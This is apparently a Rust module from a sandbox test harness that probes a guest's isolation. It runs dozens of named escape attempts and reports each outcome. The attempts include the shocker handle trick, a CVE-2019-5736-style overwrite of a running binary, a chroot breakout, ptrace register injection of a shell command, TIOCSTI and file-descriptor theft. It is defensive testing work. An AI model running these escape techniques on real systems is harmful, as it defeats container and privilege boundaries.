//! One attack each: `guest attack NAME[:ARGUMENT…]…` tries every one in a process of its own and prints what came of it:
//! `NAME[:ARGUMENT…] ok`, or the errno (`EPERM`), or what the attack says. Nothing here harms a machine on which it
//! succeeds: what is opened for writing is not written to, or gets back what was read from it.

use std::ffi::c_int;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Read, Write};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::os::unix::net::{SocketAddr, UnixListener, UnixStream};
use std::time::{Duration, Instant};

use crate::kernel::{self as nr, _exit, at, call, fork, getpid, kill, name, text, wait};
use crate::say;

unsafe extern "C" {
    fn ioctl(fd: c_int, request: u64, ...) -> c_int;
    fn mknod(path: *const i8, mode: u32, device: u64) -> c_int;
    fn sendmsg(fd: c_int, message: *const Message, flags: c_int) -> isize;
    fn recvmsg(fd: c_int, message: *mut Message, flags: c_int) -> isize;
    fn socket(family: c_int, kind: c_int, protocol: c_int) -> c_int;
    fn geteuid() -> u32;
    fn waitpid(pid: c_int, status: *mut c_int, options: c_int) -> c_int;
}

const O_PATH: i32 = 0o10_000_000;
#[cfg(target_arch = "x86_64")]
const O_DIRECTORY: i32 = 0o200_000;
#[cfg(target_arch = "aarch64")]
const O_DIRECTORY: i32 = 0o40_000;
const AT_FDCWD: usize = -100isize as usize;

/// An attack's outcome: `ok` or another word, or an errno.
type Outcome = io::Result<&'static str>;

pub fn all(attacks: &[&str]) -> c_int {
    for attack in attacks {
        let child = unsafe { fork() };
        if child == 0 {
            let words: Vec<&str> = attack.split(':').collect();
            let outcome = match one(&words) {
                Ok(word) => word.to_owned(),
                Err(error) => name(&error),
            };
            say(&format!("{attack} {outcome}"));
            unsafe { _exit(0) };
        }
        match wait(child, 2000) {
            Some(0) => {}
            Some(status) => say(&format!("{attack} status-{status:x}")),
            None => {
                unsafe { kill(child, 9) };
                say(&format!("{attack} timeout"));
            }
        }
    }
    0
}

fn one(words: &[&str]) -> Outcome {
    let number = |word: &str| word.parse::<usize>().unwrap_or(usize::MAX);
    let done = |result: io::Result<usize>| result.map(|_| "ok");
    match *words {
        // Files.
        ["read", path] => read(path),
        ["write", path] => OpenOptions::new().write(true).open(path).map(|_| "ok"),
        // Opened like a shell does for `>`: a read-only mount is noticed before a missing permission is.
        ["truncate", path] => OpenOptions::new()
            .write(true)
            .truncate(true)
            .open(path)
            .map(|_| "ok"),
        ["both", path] => OpenOptions::new()
            .read(true)
            .write(true)
            .open(path)
            .map(|_| "ok"),
        ["rewrite", path] => fs::read(path)
            .and_then(|bytes| OpenOptions::new().write(true).open(path)?.write_all(&bytes))
            .map(|()| "ok"),
        ["mkdir", path] => fs::create_dir(path).map(|()| "ok"),
        ["create", path] => File::create_new(path).map(|_| "ok"),
        ["say", path] => OpenOptions::new()
            .append(true)
            .open(path)?
            .write_all(b"said\n")
            .map(|()| "ok"),
        ["link", path] => fs::read_link(path).map(|_| "ok"),
        ["enter", path] => std::env::set_current_dir(path).map(|()| "ok"),
        ["mknod", path, kind, major, minor] => node(path, kind, number(major), number(minor)),
        ["handle", place, canary] => handle(place, canary),
        ["chroot", canary] => leave_chroot(canary),
        ["fd", fd, canary] => {
            std::env::set_current_dir(format!("/proc/self/fd/{fd}"))?;
            leave_directory(canary)
        }
        ["cwd", canary] => leave_directory(canary),
        ["overwrite", path] => overwrite(path),
        ["give", socket, path] => give(socket, path),
        ["take", socket] => take(socket),

        // Mounts.
        ["mount", kind] => mount("none", "/mnt", kind, 0, ""),
        ["overlay"] => mount("none", "/mnt", "overlay", 0, "lowerdir=/bin:/etc"),
        // A hierarchy of version 1, by a controller's name, or version 2; then this is written to a file in it.
        ["cgroup", controller, file, value] => {
            let (kind, data) = match controller {
                "2" => ("cgroup2", ""),
                _ => ("cgroup", controller),
            };
            match mount("none", "/mnt", kind, 0, data) {
                // An attack before this one has done so.
                Err(error) if error.raw_os_error() == Some(16) => {}
                result => drop(result?),
            }
            fs::write(format!("/mnt/{file}"), value).map(|()| "ok")
        }
        ["bind", source, target] => mount(source, target, "", 0x1000, ""),
        // MS_REMOUNT | MS_BIND, and MS_REMOUNT alone: the mount's flags, and the file system's.
        ["remount", path] => mount("none", path, "", 0x20 | 0x1000, ""),
        ["remount-super", path] => mount("none", path, "", 0x20, ""),
        ["umount", path] => done(call(nr::UMOUNT2, &[at(&text(path)), 2])),
        ["pivot_root"] => pivot_root(),
        ["fsopen", kind] => done(call(nr::FSOPEN, &[at(&text(kind)), 0])),
        ["open_tree", path] => done(open_tree(path)),
        ["move_mount", path] => {
            let (tree, empty, target) = (open_tree(path)?, text(""), text("/mnt"));
            let arguments = [tree, at(&empty), AT_FDCWD, at(&target), 4];
            done(call(nr::MOVE_MOUNT, &arguments))
        }
        ["mount_setattr", path] => {
            // attr_set, attr_clr = MOUNT_ATTR_RDONLY, propagation, userns_fd.
            let (path, attributes) = (text(path), [0u64, 1, 0, 0]);
            let size = size_of_val(&attributes);
            let address = attributes.as_ptr() as usize;
            done(call(
                nr::MOUNT_SETATTR,
                &[AT_FDCWD, at(&path), 0, address, size],
            ))
        }

        // Namespaces.
        ["setns", path] => {
            let file = File::open(path)?;
            done(call(nr::SETNS, &[file.as_raw_fd() as usize, 0]))
        }
        ["unshare", flag] => done(call(nr::UNSHARE, &[namespace(flag)])),
        ["clone", flag] => ended_child(call(nr::CLONE, &[namespace(flag) | 17])),
        ["clone3", flag] => {
            // flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls.
            let arguments = [namespace(flag) as u64, 0, 0, 0, 17, 0, 0, 0];
            let address = arguments.as_ptr() as usize;
            ended_child(call(nr::CLONE3, &[address, size_of_val(&arguments)]))
        }

        // Processes.
        ["kill", pid] => match unsafe { kill(number(pid) as c_int, 0) } {
            0 => Ok("ok"),
            _ => Err(io::Error::last_os_error()),
        },
        // PTRACE_SEIZE, which does not stop the process; it is let go at this one's end.
        ["ptrace", pid] => done(call(nr::PTRACE, &[0x4206, number(pid), 0, 0])),
        #[cfg(target_arch = "x86_64")]
        ["inject", pid] => inject(number(pid)),
        ["vm_readv", pid] => vm_readv(number(pid)),
        ["pidfd_getfd", pid] => {
            let pidfd = call(nr::PIDFD_OPEN, &[number(pid), 0])?;
            let mut result = Err(io::Error::from_raw_os_error(9));
            for fd in 0..64 {
                result = call(nr::PIDFD_GETFD, &[pidfd, fd, 0]);
                match &result {
                    Err(error) if error.raw_os_error() == Some(9) => {}
                    _ => break,
                }
            }
            done(result)
        }
        ["kcmp", pid] => done(call(
            nr::KCMP,
            &[unsafe { getpid() } as usize, number(pid), 1],
        )),
        ["euid"] => Ok(if unsafe { geteuid() } == 0 {
            "root"
        } else {
            "user"
        }),

        // Keys.
        ["keyctl"] => done(call(nr::KEYCTL, &[0, -3isize as usize, 0])),
        ["add_key"] => {
            let (kind, what) = (text("user"), text("mini-attack"));
            let arguments = [at(&kind), at(&what), at(&what), 4, -2isize as usize];
            done(call(nr::ADD_KEY, &arguments))
        }
        ["request_key"] => {
            let (kind, what) = (text("user"), text("mini-attack"));
            done(call(nr::REQUEST_KEY, &[at(&kind), at(&what), 0, 0]))
        }
        // KEYCTL_SEARCH in the session keyring.
        ["search-key", what] => {
            let (kind, what) = (text("user"), text(what));
            let arguments = [10, -3isize as usize, at(&kind), at(&what), 0];
            done(call(nr::KEYCTL, &arguments))
        }

        // Terminals and sockets.
        ["tiocsti"] => terminal(|fd| unsafe { ioctl(fd, 0x5412, c"x".as_ptr()) }),
        // TIOCL_GETSHIFTSTATE: changes nothing.
        ["tioclinux"] => terminal(|fd| unsafe { ioctl(fd, 0x541c, c"\x06".as_ptr()) }),
        // The kernel looks at the lower 32 bits of the request only; so has a filter to.
        ["tiocsti-high"] => terminal(|fd| unsafe { ioctl(fd, 0x5412 | 1 << 32, c"x".as_ptr()) }),
        ["socket", family, kind, protocol] => {
            match unsafe {
                socket(
                    number(family) as c_int,
                    number(kind) as c_int,
                    number(protocol) as c_int,
                )
            } {
                0.. => Ok("ok"),
                _ => Err(io::Error::last_os_error()),
            }
        }
        ["abstract", what] => {
            use std::os::linux::net::SocketAddrExt;
            let address = SocketAddr::from_abstract_name(what)?;
            UnixStream::connect_addr(&address).map(|_| "ok")
        }

        _ => kernel(words),
    }
}

/// System calls that act on the machine as a whole, with arguments that change nothing where they are allowed.
fn kernel(words: &[&str]) -> Outcome {
    let number = match words {
        ["personality", value] => {
            let value = usize::from_str_radix(value, 16).unwrap_or(0);
            return call(nr::PERSONALITY, &[value]).map(|_| "ok");
        }
        ["bpf"] => {
            // BPF_MAP_CREATE: an array with a key of four bytes and one value of four.
            let attributes = [2u32, 4, 4, 1, 0, 0, 0, 0, 0, 0, 0, 0];
            let size = size_of_val(&attributes);
            let arguments = [0, attributes.as_ptr() as usize, size];
            return call(nr::BPF, &arguments).map(|_| "ok");
        }
        ["io_uring_setup"] => {
            let parameters = [0u64; 15];
            let arguments = [1, parameters.as_ptr() as usize];
            return call(nr::IO_URING_SETUP, &arguments).map(|_| "ok");
        }
        ["perf_event_open"] => {
            // PERF_TYPE_SOFTWARE, PERF_COUNT_SW_CPU_CLOCK, of this process, without the kernel and the hypervisor.
            let mut attributes = [0u64; 14];
            attributes[0] = 1 | 112 << 32;
            attributes[5] = 1 << 5 | 1 << 6;
            let arguments = [
                attributes.as_ptr() as usize,
                0,
                -1isize as usize,
                -1isize as usize,
            ];
            return call(nr::PERF_EVENT_OPEN, &arguments).map(|_| "ok");
        }
        // UFFD_USER_MODE_ONLY, which needs no privilege.
        ["userfaultfd"] => return call(nr::USERFAULTFD, &[1]).map(|_| "ok"),
        // SYSLOG_ACTION_READ_ALL.
        ["syslog"] => {
            let mut buffer = [0u8; 64];
            let arguments = [3, buffer.as_mut_ptr() as usize, buffer.len()];
            return call(nr::SYSLOG, &arguments).map(|_| "ok");
        }
        ["sethostname"] => {
            let mut own = fs::read("/proc/sys/kernel/hostname")?;
            own.pop();
            let arguments = [own.as_ptr() as usize, own.len()];
            return call(nr::SETHOSTNAME, &arguments).map(|_| "ok");
        }
        // ADJ_TICK without a sensible tick: EINVAL where it is allowed.
        ["adjtimex"] => {
            let mut timex = [0u64; 26];
            timex[0] = 0x4000;
            return call(nr::ADJTIMEX, &[timex.as_mut_ptr() as usize]).map(|_| "ok");
        }
        // Wrong magic numbers: EINVAL where it is allowed.
        ["reboot"] => nr::REBOOT,
        // A file that is not there: ENOENT.
        ["swapon"] => return call(nr::SWAPON, &[at(&text("/no/such")), 0]).map(|_| "ok"),
        ["acct"] => return call(nr::ACCT, &[at(&text("/no/such"))]).map(|_| "ok"),
        // No time, no time zone.
        ["settimeofday"] => nr::SETTIMEOFDAY,
        // No module and no image: EFAULT, ENOEXEC, EBADF, or ENOSYS where the kernel has none of this.
        ["init_module"] => nr::INIT_MODULE,
        ["finit_module"] => return call(nr::FINIT_MODULE, &[usize::MAX, 0, 0]).map(|_| "ok"),
        ["delete_module"] => {
            let module = text("mini_attack_no_such_module");
            return call(nr::DELETE_MODULE, &[at(&module), 0o4000]).map(|_| "ok");
        }
        ["kexec_load"] => {
            return call(nr::KEXEC_LOAD, &[0, usize::MAX, 0, 0]).map(|_| "ok");
        }
        ["kexec_file_load"] => {
            let bad = usize::MAX;
            return call(nr::KEXEC_FILE_LOAD, &[bad, bad, 0, 0, 0]).map(|_| "ok");
        }
        ["quotactl"] => return call(nr::QUOTACTL, &[0x0080_0004 << 8, 0, 0, 0]).map(|_| "ok"),
        ["fanotify_init"] => nr::FANOTIFY_INIT,
        #[cfg(target_arch = "x86_64")]
        ["iopl"] => return call(172, &[3]).map(|_| "ok"),
        #[cfg(target_arch = "x86_64")]
        ["ioperm"] => return call(173, &[0x80, 1, 1]).map(|_| "ok"),
        _ => return Ok("unknown-attack"),
    };
    call(number, &[]).map(|_| "ok")
}

/// Something to read, or a directory with something in it; `empty` if there is nothing.
fn read(path: &str) -> Outcome {
    let mut file = File::open(path)?;
    if file.metadata()?.is_dir() {
        let count = fs::read_dir(path)?.count();
        return Ok(if count == 0 { "empty" } else { "ok" });
    }
    let count = file.read(&mut [0])?;
    Ok(if count == 0 { "empty" } else { "ok" })
}

fn mount(source: &str, target: &str, kind: &str, flags: usize, data: &str) -> Outcome {
    let words = [source, target, kind, data].map(text);
    let [source, target, kind, data] = words.each_ref().map(at);
    call(nr::MOUNT, &[source, target, kind, flags, data]).map(|_| "ok")
}

fn open_tree(path: &str) -> io::Result<usize> {
    // OPEN_TREE_CLONE.
    call(nr::OPEN_TREE, &[AT_FDCWD, at(&text(path)), 1])
}

fn namespace(name: &str) -> usize {
    let known = [
        ("mnt", 0x0002_0000),
        ("cgroup", 0x0200_0000),
        ("uts", 0x0400_0000),
        ("ipc", 0x0800_0000),
        ("user", 0x1000_0000),
        ("pid", 0x2000_0000),
        ("net", 0x4000_0000),
        ("time", 0x0000_0080),
        ("none", 0),
    ];
    let found = known.iter().find(|(known, _)| *known == name);
    found.map_or(usize::MAX, |(_, flag)| *flag)
}

/// After a clone: the child is gone at once.
fn ended_child(result: io::Result<usize>) -> Outcome {
    match result? {
        0 => unsafe { _exit(0) },
        child => {
            wait(child as c_int, 500);
            Ok("ok")
        }
    }
}

/// With a file system of its own to pivot to where one can be mounted.
fn pivot_root() -> Outcome {
    let (here, mnt) = (text("."), text("/mnt"));
    let _ = mount("none", "/mnt", "tmpfs", 0, "");
    std::env::set_current_dir("/mnt")?;
    call(nr::PIVOT_ROOT, &[at(&here), at(&here)])
        .or_else(|_| call(nr::PIVOT_ROOT, &[at(&mnt), at(&mnt)]))
        .map(|_| "ok")
}

/// A device node. `made` if it can be made but not opened.
fn node(path: &str, kind: &str, major: usize, minor: usize) -> Outcome {
    let mode = 0o600 | if kind == "b" { 0o060_000 } else { 0o020_000 };
    let device = (major << 8 | minor) as u64;
    let file = text(path);
    if unsafe { mknod(file.as_ptr().cast(), mode, device) } != 0 {
        return Err(io::Error::last_os_error());
    }
    let result = File::open(path);
    let _ = fs::remove_file(path);
    Ok(if result.is_ok() { "ok" } else { "made" })
}

/// The attack of 2014 known as shocker: the root of the file system that `place` lies on, by a guessed handle. On ext4
/// a handle is an inode number and a generation; the root's are 2 and 0.
fn handle(place: &str, canary: &str) -> Outcome {
    const FILEID_INO32_GEN: u32 = 1;
    let mount = File::open(place)?;
    let handle: [u32; 4] = [8, FILEID_INO32_GEN, 2, 0];
    let arguments = [
        mount.as_raw_fd() as usize,
        handle.as_ptr() as usize,
        O_DIRECTORY as usize,
    ];
    let root = call(nr::OPEN_BY_HANDLE_AT, &arguments)?;
    read(&format!("/proc/self/fd/{root}/{canary}"))
}

/// The way out of a plain chroot: a second one below leaves the working directory outside.
fn leave_chroot(canary: &str) -> Outcome {
    let _ = fs::create_dir("/tmp/deeper");
    call(nr::CHROOT, &[at(&text("/tmp/deeper"))])?;
    for _ in 0..64 {
        std::env::set_current_dir("..")?;
    }
    call(nr::CHROOT, &[at(&text("."))])?;
    fs::read(canary).map(|_| "ok")
}

/// Whether the working directory leads to a file that is not below the root.
fn leave_directory(canary: &str) -> Outcome {
    fs::read(format!("{}{canary}", "../".repeat(64))).map(|_| "ok")
}

/// CVE-2019-5736: a descriptor for a program that runs is kept until it does not, then opened for writing.
fn overwrite(path: &str) -> Outcome {
    let file = File::open(path).or_else(|_| {
        OpenOptions::new()
            .read(true)
            .custom_flags(O_PATH)
            .open(path)
    })?;
    say(&format!("overwrite:{path} held"));
    write_when_idle(&file)
}

/// Adds a byte to the file behind a descriptor, at the latest two seconds after it has been busy.
fn write_when_idle(file: &File) -> Outcome {
    const ETXTBSY: i32 = 26;
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    let deadline = Instant::now() + Duration::from_secs(2);
    loop {
        let result = OpenOptions::new()
            .append(true)
            .open(&path)
            .and_then(|mut file| file.write_all(b"!"));
        match result {
            Err(error) if error.raw_os_error() == Some(ETXTBSY) && Instant::now() < deadline => {
                std::thread::sleep(Duration::from_millis(5));
            }
            result => return result.map(|()| "ok"),
        }
    }
}

/// Makes another process execute a shell that mounts something: whatever capabilities and filters that process has to
/// itself are then the attacker's. `nothing` if the shell could not mount.
#[cfg(target_arch = "x86_64")]
fn inject(pid: usize) -> Outcome {
    let [peek, poke, cont, getregs, setregs, attach] = [2, 5, 7, 12, 13, 16];
    // struct user_regs_struct, in words.
    let [rax, rdx, rsi, rdi, orig_rax, rip, rsp] = [10, 12, 13, 14, 15, 16, 19];
    call(nr::PTRACE, &[attach, pid, 0, 0])?;
    let mut status = 0;
    unsafe { waitpid(pid as c_int, &raw mut status, 0) };
    let mut registers = [0usize; 27];
    let address = (&raw mut registers) as usize;
    call(nr::PTRACE, &[getregs, pid, 0, address])?;
    // Below its stack pointer: the strings, then the pointers to them.
    let mut memory = Vec::new();
    let base = (registers[rsp] - 1024) & !15;
    let mut pointers = Vec::new();
    for word in ["/bin/sh", "-c", "mount -t tmpfs none /mnt; sleep 1"] {
        pointers.push(base + memory.len());
        memory.extend(word.bytes().chain([0]));
    }
    pointers.push(0);
    memory.resize(memory.len().next_multiple_of(8), 0);
    let vector = base + memory.len();
    memory.extend(pointers.iter().flat_map(|pointer| pointer.to_le_bytes()));
    for (index, word) in memory.chunks(8).enumerate() {
        let word = usize::from_le_bytes(word.try_into().unwrap_or_default());
        call(nr::PTRACE, &[poke, pid, base + index * 8, word])?;
    }
    // It waits in a system call: the instruction before is `syscall`.
    let mut code = 0usize;
    let here = registers[rip] - 2;
    call(nr::PTRACE, &[peek, pid, here, &raw mut code as usize])?;
    if code & 0xffff != 0x050f {
        return Ok("elsewhere");
    }
    registers[rip] = here;
    registers[rax] = 59;
    registers[orig_rax] = usize::MAX;
    registers[rdi] = base;
    registers[rsi] = vector;
    // No environment: the null behind the arguments.
    registers[rdx] = vector + 24;
    let address = (&raw const registers) as usize;
    call(nr::PTRACE, &[setregs, pid, 0, address])?;
    call(nr::PTRACE, &[cont, pid, 0, 0])?;
    // Its execve stops it once more.
    unsafe { waitpid(pid as c_int, &raw mut status, 0) };
    let _ = call(nr::PTRACE, &[cont, pid, 0, 0]);
    for _ in 0..100 {
        let mounts = fs::read_to_string("/proc/self/mountinfo")?;
        if mounts.contains(" /mnt ") {
            return Ok("ok");
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    Ok("nothing")
}

/// PID 1's first bytes, where its program is if it is a static one like mini.
/// Reads where a static program begins: LLVM's linker puts it elsewhere than GNU's.
fn vm_readv(pid: usize) -> Outcome {
    let mut bytes = [0u8; 8];
    let local = [bytes.as_mut_ptr() as usize, bytes.len()];
    let read = |address: usize| {
        let remote = [address, local[1]];
        let arguments = [
            pid,
            local.as_ptr() as usize,
            1,
            remote.as_ptr() as usize,
            1,
            0,
        ];
        call(nr::PROCESS_VM_READV, &arguments).map(|_| "ok")
    };
    read(0x20_0000).or_else(|_| read(0x40_0000))
}

/// An ioctl on the controlling terminal, else on standard input whatever that is.
fn terminal(request: impl Fn(c_int) -> c_int) -> Outcome {
    let terminal = OpenOptions::new().read(true).write(true).open("/dev/tty");
    let fd = terminal.as_ref().map_or(0, AsRawFd::as_raw_fd);
    match request(fd) {
        0 => Ok("ok"),
        _ => Err(io::Error::last_os_error()),
    }
}

// --- descriptors through sockets -----------------------------------------------------------------------------------

#[repr(C)]
struct Message {
    name: usize,
    name_length: u32,
    vectors: *mut [usize; 2],
    vector_count: usize,
    control: *mut [u64; 3],
    control_length: usize,
    flags: c_int,
}

/// One byte, and room for one descriptor: cmsghdr is a length, SOL_SOCKET and SCM_RIGHTS.
fn with_message<T>(fd: c_int, act: impl FnOnce(*mut Message) -> T) -> (T, c_int) {
    let mut byte = 0u8;
    let mut vector = [&raw mut byte as usize, 1];
    let mut control = [20, 1 | 1 << 32, fd as u32 as u64];
    let mut message = Message {
        name: 0,
        name_length: 0,
        vectors: &raw mut vector,
        vector_count: 1,
        control: &raw mut control,
        control_length: 24,
        flags: 0,
    };
    let result = act(&raw mut message);
    (result, control[2] as u32 as c_int)
}

/// Opens `path` and gives the descriptor to whoever listens at `socket`; says why if it cannot be opened.
fn give(socket: &str, path: &str) -> Outcome {
    let file = File::open(path).or_else(|_| {
        OpenOptions::new()
            .read(true)
            .custom_flags(O_PATH)
            .open(path)
    })?;
    let stream = UnixStream::connect(socket)?;
    let (sent, _) = with_message(file.as_raw_fd(), |message| unsafe {
        sendmsg(stream.as_raw_fd(), message, 0)
    });
    if sent < 0 {
        return Err(io::Error::last_os_error());
    }
    // The other side has it when it hangs up.
    let _ = (&stream).read_exact(&mut [0]);
    Ok("ok")
}

/// Takes one descriptor and tries to write to the file, also after its giver has ended.
fn take(socket: &str) -> Outcome {
    let listener = UnixListener::bind(socket)?;
    fs::set_permissions(socket, std::os::unix::fs::PermissionsExt::from_mode(0o666))?;
    say(&format!("take:{socket} listening"));
    let (stream, _) = listener.accept()?;
    let (received, fd) = with_message(-1, |message| unsafe {
        recvmsg(stream.as_raw_fd(), message, 0)
    });
    if received < 1 || fd < 0 {
        return Ok("nothing");
    }
    let file = File::from(unsafe { OwnedFd::from_raw_fd(fd) });
    drop(stream);
    say(&format!("take:{socket} taken"));
    write_when_idle(&file)
}

// --- things that go on -------------------------------------------------------------------------------------------

/// Swaps two names for so many milliseconds, as fast as it can.
pub fn swap(one: &str, other: &str, milliseconds: &str) -> c_int {
    const RENAME_EXCHANGE: usize = 2;
    let (one, other) = (text(one), text(other));
    let deadline = Instant::now() + Duration::from_millis(milliseconds.parse().unwrap_or(0));
    say("swapping");
    let mut count = 0;
    while Instant::now() < deadline {
        let arguments = [AT_FDCWD, at(&one), AT_FDCWD, at(&other), RENAME_EXCHANGE];
        if let Err(error) = call(nr::RENAMEAT2, &arguments) {
            say(&format!("swap {}", name(&error)));
            return 1;
        }
        count += 1;
    }
    say(&format!("swapped {count}"));
    0
}

/// `PATH UID GID MODE`, without following links.
pub fn owners(paths: &[&str]) -> c_int {
    for path in paths {
        match fs::symlink_metadata(path) {
            Ok(status) => say(&format!(
                "{path} {} {} {:o}",
                status.uid(),
                status.gid(),
                status.mode()
            )),
            Err(error) => say(&format!("{path} {}", name(&error))),
        }
    }
    0
}
